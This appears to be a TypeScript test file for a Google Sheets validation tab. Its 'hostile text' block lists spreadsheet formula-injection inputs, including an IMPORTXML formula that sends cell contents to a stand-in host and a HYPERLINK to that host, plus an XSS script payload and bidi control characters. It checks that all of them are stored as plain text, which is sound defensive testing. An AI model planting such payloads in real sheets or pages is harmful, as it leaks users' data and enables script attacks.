import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SHEET_IDS } from '#google/tab-marks.ts';
import { shownRows, text } from '#tabs/cells.ts';
import { isRecheckAsked, validasiAnswers } from '#tabs/people/validasi-answers.ts';
import { validasiTab } from '#tabs/validasi.ts';
import { answerKey, type ValidasiInput } from '#tabs/validasi-input.ts';
import { base, finding, open, say } from '../tabs/validasi-builders.ts';
import { batch, openWorld, shown, type, type World } from './world.ts';

let world: World;
beforeAll(async () => {
  world = await openWorld();
});
afterAll(() => world.close());

const VALIDASI = SHEET_IDS.validasi;

async function write(id: string, input: ValidasiInput) {
  const answer = await world.google.writer.write('satu', {
    spreadsheetId: id,
    tabs: [validasiTab(input, say)],
    readBack: [],
  });
  expect(answer.kind).toBe('written');
}

async function readTab(id: string) {
  const read = await world.google.reader.read('satu', id);
  const tab = read.kind === 'read' ? read.grid.tabs.find(({ ours }) => ours === 'validasi') : undefined;
  if (!tab) throw new Error('no Validasi');
  return tab;
}

/** 1-based row of the sheet that begins so. */
async function rowOf(id: string, beginning: string): Promise<number> {
  const rows = await shown(world.owner, id, 'Validasi');
  return rows.findIndex(([first]) => first?.startsWith(beginning)) + 1;
}

describe('Validasi in a workbook', () => {
  const warned = open('w', finding('warning', '7'));
  const input: ValidasiInput = { ...base, findings: [warned, open('e', finding('error', '8', { cell: 'D20' }))] };

  it('stands there as the model says', async () => {
    const id = await world.workbook(['Data']);
    await write(id, input);
    const rows = await shown(world.owner, id, 'Validasi');
    const model = shownRows(validasiTab(input, say));
    expect(rows.map(([first]) => first ?? '').filter((_, index) => index !== 1)).toEqual(
      model.map(([first]) => first ?? '').filter((_, index) => index !== 1),
    );
    expect(rows[rows.length - 1]?.slice(0, 4)).toEqual([
      '“7” bukan angka (D12)',
      '! D12',
      'Isi dengan angka saja.',
      '18 Nov 2026',
    ]);
  });

  it('takes an answer and a tick, and gives the tick back', async () => {
    const id = await world.workbook(['Data']);
    await write(id, input);
    expect(validasiAnswers(await readTab(id))).toEqual([
      { key: answerKey(open('e', finding('error', '8'))), value: '', reason: null },
      { key: answerKey(warned), value: '', reason: null },
    ]);
    const line = await rowOf(id, '“7”');
    await type(world.owner, id, `Validasi!F${line}`, [['sudah benar', 'desa pemekaran']]);
    await type(world.owner, id, `Validasi!B${await rowOf(id, 'Periksa ulang')}`, [[true]]);
    const tab = await readTab(id);
    expect(isRecheckAsked(tab)).toBe(true);
    const choices = validasiAnswers(tab);
    expect(choices).toContainEqual({ key: answerKey(warned), value: 'sudah benar', reason: 'desa pemekaran' });

    const answered = { ...input, choices: new Map(choices.map((choice) => [choice.key, choice])) };
    await write(id, answered);
    expect(isRecheckAsked(await readTab(id))).toBe(false);
    expect((await shown(world.owner, id, 'Validasi'))[(await rowOf(id, 'Tanggapan Anda')) - 1]?.[2]).toBe(
      '1 dari 1 peringatan sudah dijelaskan, 0 akan diperbaiki.',
    );
    const rows = await shown(world.owner, id, 'Validasi');
    expect(rows.find(([first]) => first?.startsWith('Dijelaskan: “7”'))?.slice(5, 7)).toEqual([
      'sudah benar',
      'desa pemekaran',
    ]);
  });

  it('keeps an answer with the value it was given to: another value is asked anew', async () => {
    const id = await world.workbook(['Data']);
    await write(id, input);
    await type(world.owner, id, `Validasi!F${await rowOf(id, '“7”')}`, [['Sudah benar']]);
    const changed = open('w', finding('warning', '9'));
    await write(id, { ...input, findings: [changed] });
    const answers = validasiAnswers(await readTab(id));
    expect(answers).toContainEqual({ key: answerKey(changed), value: '', reason: null });
    expect(answers).toContainEqual({ key: answerKey(warned), value: 'sudah benar', reason: null });
    expect((await shown(world.owner, id, 'Validasi')).filter((row) => row[5] === 'Sudah benar')).toHaveLength(1);
  });

  it('has no answers when people deleted the key or the columns', async () => {
    const id = await world.workbook(['Data']);
    await write(id, input);
    const column = (index: number) => ({
      deleteDimension: { range: { sheetId: VALIDASI, dimension: 'COLUMNS', startIndex: index, endIndex: index + 1 } },
    });
    await batch(world.owner, id, column(5));
    expect(validasiAnswers(await readTab(id))).toEqual([]);
    await batch(world.owner, id, column(4));
    expect(validasiAnswers(await readTab(id))).toEqual([]);
    await write(id, input);
    expect(validasiAnswers(await readTab(id))).toHaveLength(2);
  });
});

describe('hostile text', () => {
  const corpus = [
    '=IMPORTXML("https://jahat.test/?"&A1;"//a")',
    '=HYPERLINK("http://jahat.test","klik")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    "'=1+1",
    '\t=1+1',
    '<script>alert(1)</script><img src=x onerror=alert(1)>',
    'a\u0000b\u0007c\u001bd\u0085e',
    'baris satu\r\nbaris dua\rbaris tiga',
    '\u202eterbalik\u202c \u200fkanan\u2066x\u2069',
    '\ud800 setengah',
    '🌵 ñ 漢字 Ďiakritika',
    'x'.repeat(50_000),
    '12/5',
    'TRUE',
    '0009',
    '#REF!',
  ];
  const controls = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

  it('stands in our tabs as plain text', async () => {
    const id = await world.workbook(['Data']);
    const tab = validasiTab(base, say);
    const rows = corpus.map((words, index) => ({ key: `f:${index}`, cells: [text(words)] }));
    const answer = await world.google.writer.write('satu', {
      spreadsheetId: id,
      tabs: [{ ...tab, rows }],
      readBack: [],
    });
    expect(answer.kind).toBe('written');
    const { data } = await world.owner.sheets.spreadsheets.get({
      spreadsheetId: id,
      ranges: ['Validasi'],
      includeGridData: true,
    });
    const cells = (data.sheets?.[0]?.data?.[0]?.rowData ?? []).map((line) => line.values?.[0]);
    expect(cells).toHaveLength(corpus.length);
    for (const [index, cell] of cells.entries()) {
      expect(Object.keys(cell?.userEnteredValue ?? {}), corpus[index]).toEqual(['stringValue']);
      expect(cell?.effectiveValue?.stringValue ?? '', corpus[index]).not.toMatch(controls);
    }
    expect(cells[0]?.effectiveValue?.stringValue).toBe(corpus[0]);
    expect(cells[13]?.effectiveValue?.stringValue?.length).toBeLessThanOrEqual(50_000);
  });

  it('in any place of a finding leaves with nothing but our constants as formulas', () => {
    fc.assert(
      fc.property(fc.constantFrom(...corpus), (words) => {
        const input: ValidasiInput = {
          ...base,
          districtName: words,
          source: { ...base.source, office: words, kecamatan: [words] },
          tabs: [{ tabId: 3, title: words, fate: { kind: 'asked', actionName: words, missing: 'year' } }],
          findings: [open('e', finding('error', words, { tab: words, rowLabel: words, fieldLabel: words }))],
          kecamatanNames: { '62.08.01': words },
        };
        const formulas = validasiTab(input, say).rows.flatMap(({ cells }) =>
          cells.flatMap(({ value }) => (value.kind === 'formula' ? [value.formula] : [])),
        );
        expect(formulas).toEqual([
          '=IF(NOW()-66739150/1440>3/2;"BASI – belum dibaca sejak 20 November 2026 pukul 15.10 WIB";"Dibaca 20 November 2026 pukul 15.10 WIB")',
        ]);
      }),
    );
  });
});
